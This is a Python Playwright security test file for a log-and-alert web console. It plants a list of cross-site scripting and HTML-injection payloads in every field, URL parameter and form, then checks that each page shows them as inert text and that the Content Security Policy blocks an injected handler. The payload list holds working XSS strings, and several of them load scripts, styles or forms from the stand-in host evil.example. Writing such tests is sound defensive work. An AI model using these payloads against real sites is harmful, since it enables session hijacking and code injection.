"""Hostile text in everything that a page shows, in a real browser: it stays text on every page there is.

The page fixture fails on any dialog, any complaint of the browser (a violation of the policy is one) and any request
to another address.
"""

import re
from urllib.parse import urlencode

import msgspec
import pytest
from playwright.sync_api import expect
from sqlalchemy import select, update

from console import texts
from core.scope import EVERY_UNIT
from core.status import Listener
from org import audit
from org.account import Account
from org.actor import OPERATOR
from org.saved_search import EventColumns, SavedSearch
from org.service_account import ServiceAccount, create_service_account
from org.source import assign_source
from org.source_map import Place
from org.token import Token, create_token
from org.unit import Unit, record_facts
from store import db
from tests.e2e.log_in import log_in
from tests.security.surface import NO_PAGES, pages
from tests.unit.api.world import BRUTE_FORCE, NOW, UNIT, brute_force, failed_login, rejected
from tests.unit.org.provinces import FACTS

FOREIGN_SCRIPTS = "script:not(head > script[src^='/static/'])"
"""Any script but our own files, which stand in the head."""
PAYLOADS = (
    "<script>alert(document.domain)</script>",
    '"><script src=//evil.example/x.js></script>',
    "<img src=x onerror=alert(1)>",
    '<svg/onload="alert(1)">',
    "' autofocus onfocus='alert(1)",
    '" onmouseover="alert(1)" x="',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import'//evil.example/x.css'</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=a>",
    '<div hx-get="//evil.example/" hx-trigger="load">',
    '<div hx-on:htmx:load="alert(1)">',
    '<div data-hx-get="/log-out" data-hx-trigger="load">',
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028</script><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "\x1b]0;title\x07\u202egnp.exe",
)


ELEMENTS = "iframe, object, base, style, img, video, math, meta[http-equiv], [onerror], [onload], [onfocus], [ontoggle]"


@pytest.fixture
def staff(world, page):
    """The page of somebody who is logged in."""
    world.administrator()
    log_in(page, world)
    return page


def hostile_province(world):
    """Every payload in every field, raw line, rule, title, reason, guide, source, account, machine, unit, audit."""
    everything = " ".join(PAYLOADS)
    names = ("host.name", "event.dataset", "event.action", "message", "process.name", "url.original", "file.name")
    events = []
    for number, payload in enumerate(PAYLOADS, 1):
        event = failed_login(number, user=payload, **dict.fromkeys((*names, payload), payload))
        events.append(msgspec.structs.replace(event, raw=payload.encode()))
    fields = dict.fromkeys((*failed_login(99).fields, *names), everything)
    whole = msgspec.structs.replace(failed_login(99), fields=fields, raw=everything.encode())
    unread = msgspec.structs.replace(rejected(98).record, raw=everything.encode(), source=everything)
    world.store(*events, whole, msgspec.structs.replace(rejected(98), record=unread))
    said = texts.Text(everything, everything)
    rule = msgspec.structs.replace(BRUTE_FORCE, id=everything, title=said, guide=said, tags=PAYLOADS)
    group = world.alert(msgspec.structs.replace(brute_force((whole, *events), rule=rule), reason=said))
    for number, payload in enumerate(PAYLOADS):
        named = msgspec.structs.replace(BRUTE_FORCE, id=f"rule-{number}", title=texts.Text(payload, payload))
        world.alert(brute_force((failed_login(200 + number, source=payload),), rule=named))
    with db.session(world.engine, EVERY_UNIT) as session:
        record_facts(session, OPERATOR, FACTS, {}, NOW)
    with db.session(world.engine, EVERY_UNIT) as session:
        for number, payload in enumerate(PAYLOADS[:-1]):
            assign_source(session, OPERATOR, UNIT, Place(input=f"tail:/{payload}", host=f"h{number}*"), NOW)
        create_service_account(session, OPERATOR, "machine", "purpose", "lan", None, NOW)
        create_token(session, OPERATOR, "reader", "script", NOW, service_account="machine")
        session.execute(update(ServiceAccount).values(name=everything, purpose=everything))
        session.execute(update(Token).values(name=everything))
        session.execute(update(Account).values(name=everything))
        session.execute(update(Unit).values(name=everything))
        (account,) = session.scalars(select(Account.id))
        session.add(EventColumns(account_id=account, names=[*PAYLOADS[:5], "user.name"]))
        session.add_all(
            SavedSearch(account_id=account, name=each, query=each, parameters={"range": each}, saved_at=NOW)
            for each in PAYLOADS
        )
        for payload in PAYLOADS:
            detail = {"name": payload, "note": payload, payload: payload}
            audit.append(session, OPERATOR, payload, f"alert:{payload}", "denied", NOW, detail=detail)
    listener = Listener(name=everything, address=everything)
    counters = msgspec.structs.replace(world.status.counters, dropped=dict.fromkeys(PAYLOADS, 1))
    world.status = msgspec.structs.replace(world.status, listeners=(listener,), counters=counters)
    return group


@pytest.mark.slow
def test_hostile_text_stays_text_on_every_page(world, staff):
    group = hostile_province(world)
    shown = 0
    for method, path in pages(world):
        if method != "GET" or path in ("/log-in", "/first-run"):
            continue
        if path in NO_PAGES:
            answer = staff.request.get(f"{path}?query=user.n&field=user.name")
            assert answer.headers["content-type"].partition(";")[0] in ("text/csv", "application/json"), path
            assert answer.headers["x-content-type-options"] == "nosniff"
            continue
        asked = "?range=all&field=user.name" if path.startswith("/events") else ""
        staff.goto(path.replace("{identity}", group.id) + asked)
        if path == "/events":
            expect(staff.locator(".field-list > li").first).to_be_visible()
        for summary in staff.locator("main summary:visible").all():
            summary.click()
        shown += "alert(document.domain)" in staff.content()
        assert staff.locator(FOREIGN_SCRIPTS).count() == 0, path
        assert staff.locator("main").locator(ELEMENTS).count() == 0, path
        for link in staff.locator("a[href]").all():
            assert re.match(r"[/?#]", link.get_attribute("href")), path
    assert shown >= 6, "the text is there, or nothing was tried"


@pytest.mark.slow
def test_hostile_text_in_an_address_or_a_form_stays_text(world, staff):
    for payload in PAYLOADS:
        staff.goto("/events")
        staff.get_by_role("combobox", name=texts.QUERY.vi).fill(payload)
        staff.get_by_role("button", name="Tìm").click()
        expect(staff.get_by_role("combobox", name=texts.QUERY.vi)).to_have_value(re.sub(r"[\r\n]", "", payload))
    everything = " ".join(PAYLOADS)
    names = (
        "query",
        "from",
        "to",
        "range",
        "on",
        "state",
        "level",
        "actor",
        "action",
        "resource",
        "next",
        "notice",
        "before",
    )
    for method, path in pages(world):
        if method == "GET" and "{identity}" not in path and path not in ("/first-run", *NO_PAGES):
            script = "([to]) => location.assign(to)"
            with staff.expect_navigation():
                staff.evaluate(script, [path + "?" + urlencode(dict.fromkeys(names, everything))])
            assert staff.locator(FOREIGN_SCRIPTS).count() == 0, path
            assert staff.locator(ELEMENTS).count() == 0, path


@pytest.mark.slow
def test_the_policy_stops_a_script_that_got_in_all_the_same(staff):
    """The second line of defence works: an inline script put into the page by force does not run."""
    other = staff.context.new_page()
    violations = []
    other.on("console", lambda message: violations.append(message.text))
    other.goto("/alerts")
    other.evaluate(
        "() => { const s = document.createElement('div'); s.innerHTML = '<img src=x onerror=\"window.hit=1\">';"
        " document.body.append(s) }"
    )
    other.wait_for_timeout(300)
    assert other.evaluate("window.hit") is None
    assert any("Content Security Policy" in text for text in violations)
